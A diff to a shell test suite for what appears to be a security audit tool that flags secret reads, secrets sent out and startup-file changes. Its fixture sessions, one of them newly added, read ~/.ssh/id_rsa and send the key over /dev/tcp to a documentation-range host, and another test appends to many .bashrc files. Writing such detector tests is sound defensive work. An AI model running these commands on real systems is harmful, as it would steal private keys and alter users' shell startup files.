@@ -38,6 +38,13 @@ session sent-by-another 2026-11-02 <<'S'
 cat ~/.ssh/id_rsa
 bash -c 'exec 3<>/dev/tcp/192.0.2.1/80; echo hello >&3; read -r answer <&3'
 S
+session sent-kept 2026-11-02 <<'S'
+exec 3<>/dev/tcp/192.0.2.2/80
+read -r key <~/.ssh/id_rsa
+sleep 1.3
+echo "$key" >&3
+read -r answer <&3
+S
 session sent-before 2026-11-03 <<'S'
 say 192.0.2.2
 read -r key <~/.ssh/id_rsa
@@ -140,6 +147,7 @@ W
 found secret_sent 'sent' <<'W'
 secret_sent critical sent-child
 secret_sent critical sent-file
+secret_sent critical sent-kept
 secret_sent critical sent-same
 secret_sent medium sent-by-another
 W
@@ -167,4 +175,17 @@ clean "each says what to do, and whose words it is in"
 jq -r '.findings[] | select(.kind == "secret_read" and (.text | contains("id_rsa"))) | .text' "$dir/audit.json" >"$dir/got"
 says "which secret, why it is one" '$HOME/.ssh/id_rsa (private key of ssh): ' "$dir/got"
 says "who read it" "/usr/bin/cat" "$dir/got"
+
+# As many different ones that no two are alike: one finding has those that are too many.
+i=0
+while [ $i -lt 60 ]; do
+	i=$((i + 1))
+	echo "echo x >>~/many/$i/.bashrc" >>"$dir/many"
+	mkdir -p "/srv/home/many/$i"
+done
+session many 2026-11-12 <"$dir/many"
+audit
+jq -r '[.findings[] | select(.kind == "startup_changed")] | "\(length) \(map(select(.text | startswith("others, too many to list: "))) | length)"' "$dir/audit.json" >"$dir/got"
+echo "51 1" >"$dir/want"
+same "what is too much to list is counted" "$dir/want" "$dir/got"
 finish
